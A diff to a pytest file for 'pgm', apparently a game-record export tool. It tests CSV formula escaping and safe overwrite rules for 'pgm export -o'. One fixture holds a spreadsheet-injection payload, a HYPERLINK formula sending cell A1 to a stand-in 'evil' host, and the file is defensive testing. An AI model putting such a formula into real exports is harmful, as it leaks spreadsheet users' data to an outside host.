@@ -1,19 +1,22 @@
-"""What pgm's CSV must never do: hand a spreadsheet a formula (a nickname
-``=HYPERLINK(...)``, an exchange ``-GMNNPY``)."""
+"""What pgm's CSV and ``pgm export -o`` must never do: hand a spreadsheet a formula
+(a nickname ``=HYPERLINK(...)``, an exchange ``-GMNNPY``), or write over a file pgm did
+not write (the record exported, an ``event.yaml``, any other file)."""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
+import os
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from conftest import CORPUS
 from sitehelpers import make_event, run_build
 
 from pgm.cli import main
-from pgm.export import CSV_HEADER, csv_cell
+from pgm.export import CSV_HEADER, ExportTargetError, check_target, csv_cell, save
 
 EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'
 RECORD = f"""\
@@ -87,3 +90,144 @@ def test_the_sites_moves_csv_files_are_quoted_alike(tmp_path) -> None:
     assert table(whole)[0] == CSV_HEADER.rstrip("\n").split(",")
     assert table(whole)[1:] == [[name, *row] for name in ("'+r2.gcg", "'-r1.gcg")
                                 for row in ROWS]
+
+
+# -- pgm export -o: what may be written over ----------------------------------------------
+
+
+@pytest.fixture
+def club(tmp_path: Path) -> Path:
+    """An event with a record, and an earlier export of it in each format."""
+    event = make_event(tmp_path / "club", {"Open/round-2/t2.gcg": RECORD})
+    rows = run("export", str(event))
+    (tmp_path / "old.csv").write_text(rows.stdout, encoding="utf-8")
+    rows = run("export", "--format", "json", str(event))
+    (tmp_path / "old.json").write_text(rows.stdout, encoding="utf-8")
+    return event
+
+
+def refused(output: Path, records: list[Path]) -> str:
+    before = output.read_bytes() if output.is_file() else None
+    with pytest.raises(ExportTargetError) as caught:
+        save(output, "game,turn\n", records)
+    assert (output.read_bytes() if output.is_file() else None) == before
+    if output.parent.is_dir():
+        assert not [p for p in output.parent.iterdir() if p.name.endswith(".tmp")]
+    return str(caught.value)
+
+
+def test_the_record_exported_is_refused(club) -> None:
+    record = club / "Open/round-2/t2.gcg"
+    assert refused(record, [record]) == (
+        f"will not write the export over {record}: it is one of the records exported; "
+        "name another file, e.g. moves.csv")
+    # through another name of the same file, whatever its name
+    (club / "t2.txt").hardlink_to(record)
+    (club / "link").symlink_to(record)
+    for other in (club / "t2.txt", club / "link"):
+        assert f"it is the record {record}, one of those exported" in refused(other, [record])
+
+
+def test_an_event_yaml_or_a_record_name_is_refused(club, tmp_path) -> None:
+    assert refused(club / "event.yaml", []) == (
+        f"will not write the export to {club / 'event.yaml'}: event.yaml is an event's "
+        "configuration; name another file, e.g. moves.csv")
+    assert "event.yaml is an event's configuration" in refused(tmp_path / "event.yaml", [])
+    assert refused(tmp_path / "new.gcg", []) == (
+        f"will not write the export to {tmp_path / 'new.gcg'}: pgm reads .gcg files as "
+        "records, so the next check or build would read it as a broken one; name the "
+        "file .csv or .json")
+    assert not (tmp_path / "event.yaml").exists() and not (tmp_path / "new.gcg").exists()
+
+
+@pytest.mark.parametrize("content", [
+    b"my notes\n",
+    b"game,turn,player,rack,position,word,score,cumulative,kind,notation\r\n1,2\r\n",
+    b'[{"game": "x"}]\n',
+    b"\xff\xfe[",
+])
+def test_any_other_existing_file_is_refused(tmp_path, content: bytes) -> None:
+    """A CSV saved again by a spreadsheet (CRLF lines) may hold a director's edits."""
+    other = tmp_path / "results.csv"
+    other.write_bytes(content)
+    assert refused(other, []) == (
+        f"will not write the export over {other}: the file exists and is not an export "
+        "pgm wrote (pgm export replaces only its own CSV or JSON files); remove it or name "
+        "another file")
+
+
+def test_a_missing_folder_or_a_folder_is_an_error(tmp_path) -> None:
+    assert refused(tmp_path / "nope/moves.csv", []) == (
+        f"cannot write {tmp_path / 'nope/moves.csv'}: the folder {tmp_path / 'nope'} "
+        "does not exist")
+    assert not (tmp_path / "nope").exists()
+    (tmp_path / "file").write_text("x")
+    assert refused(tmp_path / "file/moves.csv", []).endswith(f"{tmp_path / 'file'} is not a folder")
+    assert refused(tmp_path, []) == f"cannot write {tmp_path}: it is a folder"
+
+
+@pytest.mark.parametrize("name", ["old.csv", "old.json"])
+def test_an_earlier_export_is_replaced_in_either_format(club, tmp_path, name: str) -> None:
+    earlier = tmp_path / name
+    earlier.chmod(0o640)
+    record = club / "Open/round-2/t2.gcg"
+    for fmt in ("json", "csv", "csv"):
+        text = run("export", "--format", fmt, str(club)).stdout
+        save(earlier, text, [record])
+        assert earlier.read_text(encoding="utf-8") == text
+    assert earlier.stat().st_mode & 0o777 == 0o640
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["club", "old.csv", "old.json"]
+
+
+def test_a_sites_moves_csv_an_empty_file_and_a_link_are_pgms_to_replace(club, tmp_path) -> None:
+    out = tmp_path / "site"
+    assert run_build(str(club), "-o", str(out), "--quiet").exit_code == 0
+    for target in (out / "moves.csv", out / "open/round-2/t2/moves.csv"):
+        save(target, CSV_HEADER, [])
+        assert target.read_text(encoding="utf-8") == CSV_HEADER
+    empty = tmp_path / "mktemp.csv"
+    empty.touch()
+    save(empty, "[]\n", [])
+    assert empty.read_text(encoding="utf-8") == "[]\n"
+    link = tmp_path / "latest.csv"
+    link.symlink_to(tmp_path / "old.csv")
+    save(link, CSV_HEADER, [])
+    assert link.is_symlink() and (tmp_path / "old.csv").read_text(encoding="utf-8") == CSV_HEADER
+
+
+def test_the_file_is_replaced_in_one_rename_from_its_own_folder(tmp_path, monkeypatch) -> None:
+    target = tmp_path / "old.csv"
+    target.write_text(CSV_HEADER + "old,row\n", encoding="utf-8")
+    renames = []
+    real_replace = os.replace
+
+    def replace(src, dst):
+        renames.append((Path(src), Path(dst), Path(src).read_text(encoding="utf-8")))
+        real_replace(src, dst)
+
+    monkeypatch.setattr(os, "replace", replace)
+    save(target, CSV_HEADER + "new,row\n", [])
+    [(temp, dst, written)] = renames
+    assert dst == target and temp.parent == tmp_path and temp.name.startswith(".old.csv.")
+    assert written == CSV_HEADER + "new,row\n" and not temp.exists()
+
+    def fail(src, dst):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(os, "replace", fail)
+    with pytest.raises(ExportTargetError, match=f"^cannot write {target}: No space left"):
+        save(target, CSV_HEADER + "newer,row\n", [])
+    assert target.read_text(encoding="utf-8") == CSV_HEADER + "new,row\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["old.csv"]
+
+
+@pytest.mark.skipif(not os.path.exists("/dev/null"), reason="no /dev/null")
+def test_a_device_is_written_as_it_is() -> None:
+    save(Path("/dev/null"), CSV_HEADER, [])  # not replaced: no temp file beside it
+
+
+def test_check_target_allows_a_new_csv_beside_the_records(club) -> None:
+    check_target(club / "moves.csv", [club / "Open/round-2/t2.gcg"])
+    check_target(Path(os.path.relpath(club / "moves.json")), [])
+    records = sorted(CORPUS.glob("gcg/*.gcg"))[:3]
+    check_target(club / "corpus.csv", records)
